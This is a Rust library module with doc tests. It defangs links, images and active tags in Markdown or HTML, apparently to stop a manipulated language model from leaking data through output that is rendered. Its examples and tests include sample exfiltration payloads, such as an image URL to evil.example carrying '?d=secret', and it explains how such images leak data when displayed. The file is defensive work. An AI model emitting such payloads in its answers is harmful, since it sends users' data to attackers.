//! Defanging: takes a text in Markdown or HTML, returns it without live links, images and active
//! tags, except for links to an allowlist of hosts.
//!
//! [`defang`] allows no host; [`defang_except`] takes an [`Allowlist`].
//!
//! ```
//! use secure_tool_text::defang::{Allowlist, defang, defang_except};
//!
//! let text = "See [your order](https://shop.example/1) ![x](https://evil.example/?d=secret)";
//! let allowed = Allowlist::new(vec!["shop.example".into()])?;
//! let defanged = defang_except(text, &allowed);
//! assert_eq!(
//!     defanged.text,
//!     "See [your order](https://shop.example/1) ![x] (image removed: evil[.]example)"
//! );
//! assert_eq!((defanged.counts.links(), defanged.counts.images()), (0, 1));
//! assert_eq!(defang(text).counts.links(), 1);
//! # Ok::<(), secure_tool_text::Error>(())
//! ```
//!
//! A manipulated model can leak data through its output. An image whose URL contains the data is
//! fetched as soon as the answer is shown; a link, when a reader clicks it. So every construct of
//! Markdown and HTML that loads or links is checked, in any context: code, comments, quotations.
//! Parsers differ in these contexts, so none is trusted to see what another one sees.
//!
//! Each construct that is not allowed is replaced:
//!
//! - `[text](address "title")` becomes `[text] (link removed: host)`, and `![text](address)` becomes
//!   `[text] (image removed: host)`. If parsers differ on its end, it becomes `[text] (…`, which is
//!   not a link.
//! - `[label]: address` becomes `[label] : address`, which defines nothing.
//! - `<https://host/…>` becomes `(link removed: host)`.
//! - `<img src=… alt="words">` becomes `(image removed: words)`, and `<a href=…>` becomes
//!   `(link removed: host)`. Other elements with an attribute outside of the list of harmless ones
//!   become `(form removed)` or similar.
//! - `<script>`, `<style>`, an unclosed tag and `<scheme:…>` become `< script>`, which is not a tag.
//! - `https://host/path?query` becomes `hxxps://host/path…`, and `www.host/path` becomes
//!   `www[.]host/path`, with `[.]` for each dot of the host.
//! - `scheme://…` of another scheme becomes `scheme[:]//…`.
//! - A URL with escaped characters (`https&colon;//…`) is handled like the URL.
//!
//! An `https` URL to a host of the list or a subdomain is allowed (see [`Allowlist`]). Destinations
//! within the page, or on the page's own host, are not. Defanging is idempotent and takes time
//! linear in the length of any text. It reads forward and looks back a few bytes at most, so it
//! also serves streams.
//!
//! Not covered: bare host names (`evil.example/x`), which some readers turn into links, and e-mail
//! addresses.

mod allow;
mod entity;
mod inert;
mod inline;
mod scan;
mod tag;

use std::borrow::Cow;

pub use allow::Allowlist;
pub use scan::Scanner;

/// The number of defanged links and images.
///
/// ```
/// let defanged = secure_tool_text::defang("[a](https://evil.example) ![](https://evil.example)");
/// assert_eq!((defanged.counts.links(), defanged.counts.images()), (1, 1));
/// ```
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub struct Counts {
    images: u32,
    links: u32,
}

impl Counts {
    fn image(&mut self) {
        self.images = self.images.saturating_add(1);
    }

    fn link(&mut self) {
        self.links = self.links.saturating_add(1);
    }

    /// Returns the number of defanged links, tags and definitions.
    #[must_use]
    pub const fn links(self) -> u32 {
        self.links
    }

    /// Returns the number of defanged images.
    #[must_use]
    pub const fn images(self) -> u32 {
        self.images
    }

    /// Returns the stable ids of the findings, `defanged.image` and `defanged.link`, each with its
    /// count.
    ///
    /// ```
    /// let defanged = secure_tool_text::defang("![](https://evil.example/?d=secret)");
    /// let found: Vec<_> = defanged.counts.found().filter(|(_, count)| *count > 0).collect();
    /// assert_eq!(found, [("defanged.image", 1)]);
    /// ```
    pub fn found(self) -> impl Iterator<Item = (&'static str, u32)> {
        [("defanged.image", self.images), ("defanged.link", self.links)]
            .into_iter()
            .filter(|(_, count)| *count > 0)
    }
}

/// A defanged text with its counts.
///
/// ```
/// use std::borrow::Cow;
///
/// let defanged = secure_tool_text::defang("Boils fast.");
/// assert!(matches!(defanged.text, Cow::Borrowed("Boils fast.")));
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Defanged<'t> {
    /// The text; borrowed if it is unchanged.
    pub text: Cow<'t, str>,
    /// The number of defanged links and images.
    pub counts: Counts,
}

/// Defangs all links, images and active tags of a text. Idempotent. Takes time linear in the text.
///
/// ```
/// let defanged = secure_tool_text::defang("![](https://evil.example/?d=secret)");
/// assert_eq!(defanged.text, "![] (image removed: evil[.]example)");
/// ```
#[must_use]
pub fn defang(text: &str) -> Defanged<'_> {
    defang_except(text, &Allowlist::default())
}

/// Defangs all links, images and active tags, except for `https` links and images to allowed hosts
/// and their subdomains. Idempotent. Takes time linear in the text.
///
/// ```
/// use secure_tool_text::{Allowlist, defang_except};
///
/// let allowed = Allowlist::new(vec!["shop.example".into()])?;
/// let answer = "[order](https://shop.example/1) [more](https://evil.example/?d=secret)";
/// let defanged = defang_except(answer, &allowed);
/// assert_eq!(
///     defanged.text,
///     "[order](https://shop.example/1) [more] (link removed: evil[.]example)"
/// );
/// # Ok::<(), secure_tool_text::Error>(())
/// ```
#[must_use]
pub fn defang_except<'t>(text: &'t str, allowed: &Allowlist) -> Defanged<'t> {
    let mut counts = Counts::default();
    Defanged { text: defang_counted(text, allowed, &mut counts), counts }
}

/// Defangs as [`defang_except`] does, and adds to existing counts.
///
/// ```
/// use secure_tool_text::defang::{Allowlist, Counts, defang_counted};
///
/// let mut counts = Counts::default();
/// for text in ["[a](https://evil.example)", "<https://evil.example>"] {
///     assert!(defang_counted(text, &Allowlist::default(), &mut counts).contains("(link removed"));
/// }
/// assert_eq!(counts.links(), 2);
/// ```
pub fn defang_counted<'a>(text: &'a str, allowed: &Allowlist, counts: &mut Counts) -> Cow<'a, str> {
    let mut scanner = Scanner::new(allowed.clone());
    let mut out = String::new();
    scanner.pass(text, true, &mut out);
    counts.images = counts.images.saturating_add(scanner.counts.images);
    counts.links = counts.links.saturating_add(scanner.counts.links);
    if scanner.changed { out.into() } else { text.into() }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn harmless_text_is_borrowed_and_defanged_links_are_counted() {
        let allowed = Allowlist::new(vec!["shop.example".into()]).expect("a host");
        let mut counts = Counts::default();
        for honest in [
            "",
            "plain, a[0](), 1 < 2 & 3",
            "[a](https://shop.example/x) https://www.shop.example",
            "caf\u{e9} \\ &eacute;",
        ] {
            assert!(
                matches!(defang_counted(honest, &allowed, &mut counts), Cow::Borrowed(same) if same == honest),
                "{honest}"
            );
        }
        assert_eq!(counts.found().count(), 0);
        defang_counted(
            "![a](//evil.example) <img src=x> [a](b) https://evil.example [![a](b)](c)",
            &allowed,
            &mut counts,
        );
        assert_eq!(
            counts.found().collect::<Vec<_>>(),
            [("defanged.image", 3), ("defanged.link", 3)]
        );
    }
}
